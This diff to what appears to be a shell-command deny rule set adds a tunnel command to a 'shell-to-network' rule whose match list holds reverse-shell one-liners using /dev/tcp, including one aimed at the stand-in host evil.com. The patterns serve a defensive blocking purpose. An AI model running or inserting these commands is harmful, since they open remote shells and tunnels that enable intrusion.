@@ -69,7 +69,7 @@ export const shellRules = {
 		"shell-to-network": {
 			verdict: "deny",
 			reason: "gives a shell to the network",
-			match: ["bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "exec 5<>/dev/tcp/evil.com/80", "sh 0</dev/tcp/1.2.3.4/80"],
+			match: ["bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "exec 5<>/dev/tcp/evil.com/80", "/tmp/c client 1.2.3.4:8080 R:socks", "sh 0</dev/tcp/1.2.3.4/80"],
 			pass: ["ls /dev", "echo /dev/tcp/1.2.3.4/80"],
 		},
 		"raw-connection": {
